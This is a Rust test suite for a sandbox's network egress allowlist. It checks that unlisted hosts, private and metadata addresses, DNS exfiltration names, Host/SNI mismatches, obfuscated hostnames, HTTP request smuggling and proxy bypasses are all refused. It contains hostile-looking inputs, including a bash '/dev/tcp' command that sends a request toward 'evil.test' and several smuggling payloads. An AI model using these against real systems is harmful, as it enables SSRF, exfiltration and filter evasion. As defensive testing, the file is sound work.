//! Attacks on the list of hosts: 19 to 25. Each is tried where it must not work, and in a twin where it must: outside, or
//! with what is listed.

use std::process::Command;
use std::sync::Arc;
use std::time::Duration;

use kitbag_sandbox::egress::{Egress, Hosts, Refusal, Verdict};
use kitbag_sandbox::{Breach, Ending, Limits, Network, NetworkIsolation, Plan, Traffic};

use crate::net::{Net, get, hello, is_refusal, last, limited};
use crate::servers::{Manner, Model, PUBLIC, Server};
use crate::world::{Attack, EAFNOSUPPORT, EPERM, Seen, Twin, World, tools};

on_each_backend! {;
    with_namespaces:
    a_host_that_is_not_listed_is_reached_in_no_way,
    nothing_but_the_doors_leads_out,
    what_is_said_before_the_end_is_recorded_even_if_nobody_waits_for_an_answer,
    a_question_about_a_name_never_leaves_the_host,
    a_name_that_leads_to_a_private_address_is_not_dialled,
    a_name_is_looked_up_once_and_what_was_vetted_is_dialled,
    what_is_said_must_be_what_the_address_was_given_for,
    a_handshake_says_whom_it_is_for_in_the_open,
    a_host_has_one_spelling_and_riddles_have_none,
    a_connection_is_for_one_request,
    a_port_of_its_own_is_a_door_and_what_is_spoken_there_is_looked_at,
    the_callers_own_servers_are_reached_where_they_are_listed,
    an_empty_list_is_no_network,
    a_network_brings_tcp_and_udp_and_no_other_socket,
    a_network_brings_no_rights,
    only_the_proxy_is_there_when_that_is_what_was_asked_for,
    a_limit_of_the_network_that_is_gone_over_names_itself,
    nobody_is_waited_for_for_ever,
}

fn a_host_that_is_not_listed_is_reached_in_no_way(world: &World) {
    let net = Net::new(world, &["good.test"]);
    net.reached(&["say", "good.test", "80", &get("good.test")], "good.test", 80);
    net.reached(&["say", "good.test", "443", &hello(Some(b"good.test"), &[])], "good.test", 443);
    let port = net.http.port.to_string();
    assert!(Net::outside(&["say", "127.0.0.1", &port, &last("evil.test")]).starts_with("said HTTP/1.1 200"));

    let not_listed = &Refusal::NotListed;
    net.refused(&["name", "evil.test", "127.0.0.1"], "evil.test", None, not_listed);
    net.refused(&["say", "evil.test", "80", ""], "evil.test", None, not_listed);
    for address in ["1.2.3.4", "169.254.169.254", "10.0.0.1", "2606:4700::1111", "::ffff:1.2.3.4"] {
        net.refused(&["say", address, "80", &get("evil.test")], "evil.test", Some(80), not_listed);
        let hello = hello(Some(b"evil.test"), &[]);
        net.refused(&["say", address, "443", &hello], "evil.test", Some(443), not_listed);
    }
    net.refused(&["say", "1.2.3.4", "80", &get("1.2.3.4")], "1.2.3.4", Some(80), not_listed);
    net.refused(&["say", "1.2.3.4", "443", &hello(None, &[])], "1.2.3.4", Some(443), not_listed);
    let connect = "CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n";
    net.refused(&["say", "127.0.0.1", "3128", connect], "evil.test", Some(443), not_listed);
    let whole = "GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n";
    net.refused(&["say", "127.0.0.1", "3128", whole], "evil.test", Some(80), not_listed);
    // A listed host has only its ports, also by way of the proxy.
    let other_port = "CONNECT good.test:22 HTTP/1.1\\r\\n\\r\\n";
    net.refused(&["say", "127.0.0.1", "3128", other_port], "good.test", Some(22), not_listed);
}

fn nothing_but_the_doors_leads_out(world: &World) {
    let net = Net::new(world, &["good.test"]);
    let port = net.http.port.to_string();
    let words = ["say", "127.0.0.1", &port, &last("good.test")];
    assert!(Net::outside(&words).starts_with("said HTTP/1.1 200"));
    let refused = format!("errno {}", 111);
    // The caller's own servers, a port that is no door, and HTTP/3.
    assert_eq!(net.inside(&words).0, refused);
    assert_eq!(net.inside(&["say", "good.test", "22", "x"]).0, refused);
    assert_eq!(net.inside(&["datagram", "good.test", "443"]).0, refused);
    assert_eq!(net.heard(), 1);
}

fn what_is_said_before_the_end_is_recorded_even_if_nobody_waits_for_an_answer(world: &World) {
    let net = Net::new(world, &["good.test"]);
    let mut plan = net.plan.clone();
    plan.program = "/bin/bash".into();
    plan.arguments =
        ["-c", "exec 3<>/dev/tcp/1.2.3.4/80; printf 'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n' >&3"]
            .map(Into::into)
            .to_vec();
    if !std::path::Path::new("/bin/bash").exists() {
        return kitbag_testkit::cases::skip("`/bin/bash` is not installed");
    }
    let outcome = net.run_plan(&plan).outcome;
    let verdict = Verdict::Refused(Refusal::NotListed);
    let asked = &outcome.egress.asked;
    assert!(
        asked
            .iter()
            .any(|asked| (&*asked.host, asked.port, &asked.verdict) == ("evil.test", Some(80), &verdict)),
        "{outcome:?}"
    );
}

fn a_question_about_a_name_never_leaves_the_host(world: &World) {
    let net = Net::new(world, &["good.test", "*.good.test"]);
    assert_eq!(net.inside(&["name", "good.test", "127.0.0.1"]).0, "address 198.18.0.1");
    for name in ["secret.evil.test", "c2vjcmv0.evil.test", "good.test.evil.test", "xgood.test"] {
        net.refused(&["name", name, "127.0.0.1"], name, None, &Refusal::NotListed);
    }
    // One whose owner is listed is asked for when it is connected to, and not before.
    assert_eq!(net.inside(&["name", "secret.good.test", "127.0.0.1"]).0, "address 198.18.0.1");
    assert_eq!(net.model.asked(), [""; 0], "nobody outside was asked");
    // Whichever server is asked, it is this one.
    let (said, egress) = net.inside(&["name", "secret.evil.test", "8.8.8.8"]);
    assert_eq!(said, "code 3");
    assert!(egress.asked.iter().any(|asked| asked.host == "secret.evil.test"), "{egress:?}");
    net.reached(&["say", "good.test", "80", &get("good.test")], "good.test", 80);
    assert_eq!(net.model.asked(), ["good.test"]);
}

fn a_name_that_leads_to_a_private_address_is_not_dialled(world: &World) {
    const PRIVATE: [&[&str]; 9] = [
        &["127.0.0.1"],
        &["10.0.0.1"],
        &["169.254.169.254"],
        &["100.64.0.1"],
        &["::1"],
        &["::ffff:10.0.0.1"],
        &["64:ff9b::a00:1"],
        &["2002:a00:1::1"],
        // One of several is enough.
        &["1.2.3.4", "192.168.0.1"],
    ];
    for answer in PRIVATE {
        let net = Net::with(world, &["good.test"], |model| model.name("good.test", &[answer]));
        let last = answer.last().unwrap().parse::<std::net::IpAddr>().unwrap().to_canonical();
        let refusal = Refusal::Private(last);
        net.refused(&["say", "good.test", "80", &get("good.test")], "good.test", Some(80), &refusal);
        let hello = hello(Some(b"good.test"), &[]);
        net.refused(&["say", "good.test", "443", &hello], "good.test", Some(443), &refusal);
        let connect = "CONNECT good.test:443 HTTP/1.1\\r\\n\\r\\n";
        net.refused(&["say", "127.0.0.1", "3128", connect], "good.test", Some(443), &refusal);
    }
    // The same addresses, listed.
    for (listed, answer) in
        [("127.0.0.1", "127.0.0.1"), ("@local", "10.0.0.1"), ("10.0.0.1", "::ffff:10.0.0.1")]
    {
        let hosts = ["good.test", listed];
        let net = Net::with(world, &hosts, |model| model.name("good.test", &[&[answer]]));
        net.reached(&["say", "good.test", "80", &get("good.test")], "good.test", 80);
    }
}

fn a_name_is_looked_up_once_and_what_was_vetted_is_dialled(world: &World) {
    let change = |model: Model| model.name("good.test", &[&["1.2.3.4"], &["127.0.0.1"]]);
    let net = Net::with(world, &["good.test"], change);
    net.reached(&["say", "good.test", "80", &get("good.test")], "good.test", 80);
    assert_eq!((net.model.asked().len(), net.model.dialled()), (1, vec![(PUBLIC, 80).into()]));
    // The next connection is vetted anew.
    let refusal = Refusal::Private([127, 0, 0, 1].into());
    net.refused(&["say", "good.test", "80", &get("good.test")], "good.test", Some(80), &refusal);
}

fn what_is_said_must_be_what_the_address_was_given_for(world: &World) {
    let net = Net::new(world, &["good.test", "other.test"]);
    for host in ["good.test", "other.test"] {
        net.reached(&["say", host, "80", &get(host)], host, 80);
        net.reached(&["say", host, "443", &hello(Some(host.as_bytes()), &[])], host, 443);
    }
    let on_good = |port| Refusal::OtherHost(format!("good.test:{port}"));
    net.refused(&["say", "good.test", "80", &get("other.test")], "other.test", Some(80), &on_good(80));
    net.refused(&["say", "good.test", "80", &get("evil.test")], "evil.test", Some(80), &Refusal::NotListed);
    net.refused(
        &["say", "good.test", "80", &get("good.test:8080")],
        "good.test",
        Some(8080),
        &Refusal::NotListed,
    );
    let other = hello(Some(b"other.test"), &[]);
    net.refused(&["say", "good.test", "443", &other], "other.test", Some(443), &on_good(443));
    // A listed name at an address that it was never given.
    let at_address = Refusal::OtherHost("1.2.3.4:80".to_owned());
    net.refused(&["say", "1.2.3.4", "80", &get("good.test")], "good.test", Some(80), &at_address);
    // Two statements of one request.
    let two = "GET http://good.test/ HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n";
    for place in [["good.test", "80"], ["127.0.0.1", "3128"]] {
        let port = place[1].parse().ok();
        net.refused(&["say", place[0], place[1], two], "other.test", port, &on_good(80));
    }
    let one = "GET http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n";
    net.reached(&["say", "good.test", "80", one], "good.test", 80);
    net.reached(&["say", "127.0.0.1", "3128", one], "good.test", 80);
    let twice = "GET / HTTP/1.1\\r\\nHost: good.test\\r\\nHost: evil.test\\r\\n\\r\\n";
    let malformed = Refusal::Malformed("there is not exactly one `Host`");
    net.refused(&["say", "good.test", "80", twice], "good.test", Some(80), &malformed);
    // What is inside a tunnel is looked at as well.
    let tunnel = "CONNECT good.test:443 HTTP/1.1\\r\\nHost: good.test:443\\r\\n\\r\\n";
    let connect =
        |name: &[u8]| ["twice", "127.0.0.1", "3128", tunnel, &hello(Some(name), &[])].map(str::to_owned);
    for (name, through) in [(&b"good.test"[..], true), (b"other.test", false), (b"evil.test", false)] {
        let words = connect(name);
        let (said, _) = net.inside(&words.each_ref().map(String::as_str));
        assert!(said.starts_with("first HTTP/1.1 200"), "{said}");
        assert_eq!(said.ends_with("plainly"), through, "{said}");
    }
}

fn a_handshake_says_whom_it_is_for_in_the_open(world: &World) {
    let net = Net::new(world, &["good.test"]);
    let refused = |hello: String, refusal: Refusal| {
        net.refused(&["say", "good.test", "443", &hello], "good.test", Some(443), &refusal);
    };
    let hidden = [0xfe, 0x0d, 0, 4, 1, 2, 3, 4];
    net.reached(&["say", "good.test", "443", &hello(Some(b"good.test"), &[0, 43, 0, 0])], "good.test", 443);
    refused(hello(Some(b"good.test"), &hidden), Refusal::Hidden);
    refused(hello(None, &[]), Refusal::Nameless);
    for name in [&b"good.test\0.evil.test"[..], b"1.2.3.4", b"[::1]"] {
        refused(hello(Some(name), &[]), Refusal::NoHost);
    }
    refused(get("good.test"), Refusal::Malformed("no TLS handshake"));
}

fn a_host_has_one_spelling_and_riddles_have_none(world: &World) {
    let net = Net::new(world, &["good.test"]);
    for spelling in ["good.test", "GOOD.test", "good.test."] {
        net.reached(&["say", "good.test", "80", &get(spelling)], "good.test", 80);
        let connect = format!("CONNECT {spelling}:443 HTTP/1.1\\r\\n\\r\\n");
        let words = ["twice", "127.0.0.1", "3128", &connect, &hello(Some(b"good.test"), &[])];
        net.reached(&words, "good.test", 443);
    }
    assert_eq!(net.inside(&["name", "GOOD.tEsT", "127.0.0.1"]).0, "address 198.18.0.1");
    for riddle in [
        "good.test\\x00.evil.test",
        "evil@good.test",
        "good.test%00",
        "127.1",
        "0x7f000001",
        "good.test..",
        "[::1",
    ] {
        let (said, egress) = net.inside(&["say", "good.test", "80", &get(riddle)]);
        assert!(said.starts_with("said HTTP/1.1 400"), "{riddle}: {said}");
        assert!(!egress.asked.iter().any(|asked| asked.port.is_some() && asked.verdict == Verdict::Allowed));
        let connect = format!("CONNECT {riddle}:443 HTTP/1.1\\r\\n\\r\\n");
        let (said, _) = net.inside(&["say", "127.0.0.1", "3128", &connect]);
        assert!(said.starts_with("said HTTP/1.1 400"), "{riddle}: {said}");
    }
    // A dot inside a label is no dot between two.
    let (said, _) = net.inside(&["name", "good\\x2etest", "127.0.0.1"]);
    assert_eq!(said, "code 3");
    assert_eq!(net.inside(&["name", "good.test\\x00evil", "127.0.0.1"]).0, "code 3");
    for address in ["[::1]", "127.0.0.1"] {
        net.refused(&["say", "good.test", "80", &get(address)], address, Some(80), &Refusal::NotListed);
    }
}

fn a_connection_is_for_one_request(world: &World) {
    let net = Net::new(world, &["good.test", "other.test"]);
    let port = net.http.port.to_string();
    let both = format!("{}{}", get("good.test"), get("evil.test"));
    let answers = |said: &str| said.matches("HTTP/1.1 200").count();
    // Outside the server answers both.
    assert_eq!(answers(&Net::outside(&["twice", "127.0.0.1", &port, &both, &last("other.test")])), 3);
    assert_eq!(net.http.heard().len(), 3);
    let length = |length: &str, more: &str| {
        format!("POST / HTTP/1.1\\r\\nHost: good.test\\r\\n{length}\\r\\n\\r\\n{more}{}", get("evil.test"))
    };
    for (name, words) in [
        ("at once", ["say", "good.test", "80", &both]),
        ("after content", ["say", "good.test", "80", &length("Content-Length: 2", "ab")]),
        ("after no content", ["say", "good.test", "80", &length("Content-Length: 0", "")]),
    ] {
        let before = net.http.heard().len();
        let (said, egress) = net.inside(&words);
        assert_eq!(answers(&said), 1, "{name}: {said}");
        assert_eq!(net.http.heard().len(), before + 1, "{name}: {:?}", net.http.heard());
        let second = Verdict::Refused(Refusal::SecondRequest);
        assert!(egress.asked.iter().any(|asked| asked.verdict == second), "{name}: {egress:#?}");
    }
    // Later, on the same connection, also to a host that is listed.
    for host in ["evil.test", "other.test", "good.test"] {
        let before = net.http.heard().len();
        let (said, _) = net.inside(&["twice", "good.test", "80", &get("good.test"), &get(host)]);
        assert_eq!(answers(&said), 1, "{host}: {said}");
        assert_eq!(net.http.heard().len(), before + 1, "{host}");
    }
    // Where two readers see two ends, nobody is told anything.
    for fields in [
        "Content-Length: 3\\r\\nContent-Length: 60",
        "Content-Length: 4\\r\\nTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked\\r\\nTransfer-Encoding: identity",
        "Transfer-Encoding:\\x0bchunked",
        "Connection: content-length\\r\\nContent-Length: 60",
    ] {
        let before = net.http.heard().len();
        let (said, _) = net.inside(&["say", "good.test", "80", &length(fields, "0\\r\\n\\r\\n")]);
        assert!(said.starts_with("said HTTP/1.1 400"), "{fields}: {said}");
        assert_eq!(net.http.heard().len(), before, "{fields}");
    }
}

fn a_port_of_its_own_is_a_door_and_what_is_spoken_there_is_looked_at(world: &World) {
    let greeter = Server::start(Manner::Greeting);
    let hosts = ["good.test:8080", "good.test:8443", "good.test:2525", "other.test"];
    let net = Net::new(world, &hosts);
    net.reached(&["say", "good.test", "8080", &get("good.test:8080")], "good.test", 8080);
    let to_other = Refusal::NotListed;
    net.refused_after_dialling(&["say", "good.test", "8080", &get("evil.test")], "evil.test", 80, &to_other);
    let folded = format!("\\r\\n{}", get("evil.test"));
    let line = Refusal::Malformed("the first line is no request of HTTP/1");
    net.refused_after_dialling(&["say", "good.test", "8080", &folded], "good.test", 8080, &line);
    net.reached(&["say", "good.test", "8443", &hello(Some(b"good.test"), &[])], "good.test", 8443);
    let hello = hello(Some(b"evil.test"), &[]);
    net.refused_after_dialling(&["say", "good.test", "8443", &hello], "evil.test", 8443, &Refusal::NotListed);
    net.refused(
        &["say", "other.test", "8080", &get("other.test")],
        "other.test",
        Some(8080),
        &Refusal::NotListed,
    );
    net.refused(&["say", "good.test", "80", &get("good.test")], "good.test", Some(80), &Refusal::NotListed);
    // A server that speaks first is listened to.
    let model = Model::new(&[(2525, greeter.port)]);
    let net = Net { model: Arc::new(model), ..net };
    let (said, egress) = net.inside(&["listen", "good.test", "2525", "EHLO me\\r\\n"]);
    assert_eq!(said, "heard greetings\\n\nsaid EHLO me\\r\\n");
    let asked = egress.asked.iter().find(|asked| asked.port == Some(2525)).unwrap();
    assert_eq!((&asked.verdict, asked.sent, asked.received), (&Verdict::Allowed, 9, 19));
}

fn the_callers_own_servers_are_reached_where_they_are_listed(world: &World) {
    let server = Server::start(Manner::Obliging);
    let port = server.port.to_string();
    for listed in [format!("@local:{port}"), format!("localhost:{port}"), format!("127.0.0.1:{port}")] {
        let net = Net::new(world, &[&listed]);
        let net = Net { model: Arc::new(Model::new(&[])), ..net };
        let host = format!("127.0.0.1:{port}");
        net.reached(&["say", "127.0.0.1", &port, &get(&host)], "127.0.0.1", server.port);
        let localhost = get(&format!("localhost:{port}"));
        if listed.starts_with("127") {
            let (said, _) = net.inside(&["say", "127.0.0.1", &port, &localhost]);
            assert!(is_refusal(&said), "{said}");
        } else {
            net.reached(&["say", "127.0.0.1", &port, &localhost], "localhost", server.port);
        }
        net.refused_after_dialling(
            &["say", "127.0.0.1", &port, &get("good.test")],
            "good.test",
            80,
            &Refusal::NotListed,
        );
        assert_eq!(net.inside(&["say", "127.0.0.1", &net.http.port.to_string(), "x"]).0, "errno 111");
        assert_eq!(net.model.asked(), [""; 0]);
    }
}

fn an_empty_list_is_no_network(world: &World) {
    let mut net = Net::new(world, &[]);
    for network in [Network::Listed(Hosts::default()), Network::Proxied(Hosts::default())] {
        net.plan.network = network;
        let run = net.run(&["say", "1.2.3.4", "80", "x"]);
        assert_eq!(run.report.network, NetworkIsolation::None);
        assert_eq!(String::from_utf8_lossy(&run.outcome.output), "errno 97\n");
        assert_eq!(run.outcome.egress, Egress::default());
    }
}

fn a_network_brings_tcp_and_udp_and_no_other_socket(world: &World) {
    let net = Net::new(world, &["good.test"]);
    let plan = Plan { program: "/attack".into(), ..net.plan.clone() };
    net.world.withstands(
        &plan,
        &[
            Attack(&["socket", "2", "1"], Twin::Anyone, &[Seen::Open]),
            Attack(&["socket", "10", "2"], Twin::Anyone, &[Seen::Open]),
            Attack(&["socket", "1", "1"], Twin::Anyone, EAFNOSUPPORT),
            Attack(&["socket", "16", "3"], Twin::Anyone, EAFNOSUPPORT),
            Attack(&["socket", "17", "3"], Twin::Root, EAFNOSUPPORT),
            Attack(&["socket", "2", "3"], Twin::Is(&[Seen::Errno(93), Seen::Errno(1), Seen::Open]), EPERM),
            Attack(&["socket", "38", "5"], Twin::Anyone, EAFNOSUPPORT),
            Attack(&["socket", "40", "1"], Twin::Anyone, EAFNOSUPPORT),
            Attack(&["ring"], Twin::Anyone, EPERM),
        ],
    );
}

/// Descriptors of this process, and its threads that stand at a sandbox's doors.
fn open_here() -> (usize, usize) {
    let threads = std::fs::read_dir("/proc/self/task").unwrap().flatten();
    let names = threads.filter_map(|thread| std::fs::read_to_string(thread.path().join("comm")).ok());
    let at_doors = names.filter(|name| name.starts_with("door")).count();
    (std::fs::read_dir("/proc/self/fd").unwrap().count(), at_doors)
}

#[test]
#[ignore = "counts what its process has open; `nothing_is_left_at_the_doors` runs it alone"]
fn what_is_open_alone() {
    World::with(kitbag_sandbox::Backend::Native, |world| {
        let mut net = Net::new(world, &["good.test", "gone.test", "good.test:9"]);
        let all = |net: &Net<'_>| {
            net.inside(&["say", "good.test", "80", &get("good.test")]);
            net.inside(&["say", "good.test", "443", &hello(Some(b"evil.test"), &[])]);
            net.inside(&["say", "gone.test", "80", &get("gone.test")]);
            net.inside(&["say", "good.test", "9", "x"]);
            net.run(&["say", "good.test", "80", "GET / HTTP/1.1\\r\\n"]);
            limited(net, Traffic { connections: 1, ..Traffic::default() }, &["many", "good.test", "80", "9"]);
        };
        net.plan.limits.wall = Duration::from_secs(1);
        all(&net);
        // What the test's own servers still hold goes by itself; what leaks does not.
        let settled = |wanted: (usize, usize)| {
            for _ in 0..600 {
                std::thread::sleep(Duration::from_millis(100));
                if open_here() == wanted {
                    break;
                }
            }
            open_here()
        };
        std::thread::sleep(Duration::from_secs(1));
        let before = open_here();
        assert_eq!(before.1, 0, "threads at no doors");
        for _ in 0..5 {
            all(&net);
        }
        assert_eq!(settled(before), before);
        println!("counted");
    });
}

#[test]
fn nothing_is_left_at_the_doors() {
    if World::new().is_none() {
        return;
    }
    let output = Command::new(std::env::current_exe().unwrap())
        .args(["--exact", "egress::what_is_open_alone", "--ignored", "--nocapture", "--test-threads=1"])
        .env(crate::world::PROGRAMS, tools().unwrap().attack.parent().unwrap())
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&output.stdout);
    assert!(
        output.status.success() && text.contains("counted"),
        "{text}{}",
        String::from_utf8_lossy(&output.stderr)
    );
}

fn a_network_brings_no_rights(world: &World) {
    let net = Net::new(world, &["good.test"]);
    for network in
        [net.plan.network.clone(), Network::Proxied(Hosts::parse(["good.test"]).unwrap()), Network::Off]
    {
        let plan = Plan { program: "/bin/cat".into(), network, ..net.plan.clone() };
        let plan = Plan { arguments: vec!["/proc/self/status".into()], ..plan };
        let outcome = net.run_plan(&plan).outcome;
        let text = String::from_utf8(outcome.output).unwrap();
        let rights: Vec<&str> = text.lines().filter(|line| line.starts_with("Cap")).collect();
        assert_eq!(rights.len(), 5, "{text}");
        assert!(rights.iter().all(|set| set.ends_with("\t0000000000000000")), "{rights:?}");
        assert!(text.contains("NoNewPrivs:\t1"), "{text}");
    }
}

fn only_the_proxy_is_there_when_that_is_what_was_asked_for(world: &World) {
    let mut net = Net::new(world, &["good.test"]);
    net.plan.network = Network::Proxied(Hosts::parse(["good.test"]).unwrap());
    let run = net.run(&["name", "good.test", "127.0.0.1"]);
    assert_eq!(run.report.network, NetworkIsolation::Proxied);
    assert_eq!(String::from_utf8_lossy(&run.outcome.output), "errno 111\n");
    assert_eq!(net.inside(&["say", "1.2.3.4", "80", "x"]).0, "errno 101");
    let whole = "GET http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n";
    net.reached(&["say", "127.0.0.1", "3128", whole], "good.test", 80);
    let evil = "GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n";
    net.refused(&["say", "127.0.0.1", "3128", evil], "evil.test", Some(80), &Refusal::NotListed);
    let mut plan =
        Plan { program: "/attack".into(), arguments: vec!["variables".into()], ..net.plan.clone() };
    plan.environment = vec![("NO_PROXY".into(), "*".into()), ("https_proxy".into(), "x".into())];
    let outcome = net.run_plan(&plan).outcome;
    let text = String::from_utf8(outcome.output).unwrap();
    let names: Vec<&str> =
        text.lines().filter_map(|line| line.strip_suffix("=http://127.0.0.1:3128")).collect();
    assert_eq!(names.len(), 6, "{text}");
    assert!(!text.contains("NO_PROXY") && text.contains("NODE_USE_ENV_PROXY=1"), "{text}");
}

fn a_limit_of_the_network_that_is_gone_over_names_itself(world: &World) {
    let net = Net::new(world, &["good.test"]);
    let few = Traffic { connections: 3, ..Traffic::default() };
    let many = |count| ["many", "good.test", "80", count];
    let short = Limits { wall: Duration::from_secs(2), ..net.plan.limits };
    let plan = Plan { limits: short, ..net.plan.clone() };
    assert_eq!(limited(&net, few, &many("4")).ending, Ending::Breached(Breach::Connections));
    let enough = limited(&Net { plan, ..Net::new(world, &["good.test"]) }, few, &many("3"));
    assert_eq!((enough.ending, enough.egress.connections), (Ending::Breached(Breach::Wall), 3));

    let little = Traffic { bytes: 1 << 20, ..Traffic::default() };
    let post = "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 8388608\\r\\n\\r\\n";
    let flood = ["flood", "good.test", "80", post, "8"];
    let outcome = limited(&net, little, &flood);
    assert_eq!(outcome.ending, Ending::Breached(Breach::Traffic));
    let limit = Verdict::Refused(Refusal::Limit("the limit of traffic"));
    assert!(outcome.egress.asked.iter().any(|asked| asked.verdict == limit), "{:#?}", outcome.egress);
    assert_eq!(limited(&net, Traffic::default(), &flood).ending, Ending::Exited(0));
}

fn nobody_is_waited_for_for_ever(world: &World) {
    let net = Net::new(world, &["good.test"]);
    let idle = Traffic { idle: Duration::from_millis(300), ..Traffic::default() };
    let open = Traffic { open: Duration::from_millis(300), ..Traffic::default() };
    let half = ["say", "good.test", "80", "GET / HTTP/1.1\\r\\nHost: good"];
    for (traffic, refusal) in [(idle, Refusal::Silent), (open, Refusal::Lasting)] {
        let outcome = limited(&net, traffic, &half);
        assert_eq!(outcome.ending, Ending::Exited(0));
        let verdict = Verdict::Refused(refusal);
        assert!(outcome.egress.asked.iter().any(|asked| asked.verdict == verdict), "{:#?}", outcome.egress);
    }
    // A head without an end.
    let long = format!("GET / HTTP/1.1\\r\\nX: {}", "x".repeat(40 << 10));
    let (said, egress) = net.inside(&["say", "good.test", "80", &long]);
    assert!(said.starts_with("said HTTP/1.1 403"), "{said}");
    let limit = Verdict::Refused(Refusal::Limit("the limit of a head's length"));
    assert!(egress.asked.iter().any(|asked| asked.verdict == limit), "{egress:#?}");
    let allowed = format!("GET / HTTP/1.1\\r\\nHost: good.test\\r\\nX: {}\\r\\n\\r\\n", "x".repeat(30 << 10));
    net.reached(&["say", "good.test", "80", &allowed], "good.test", 80);
}
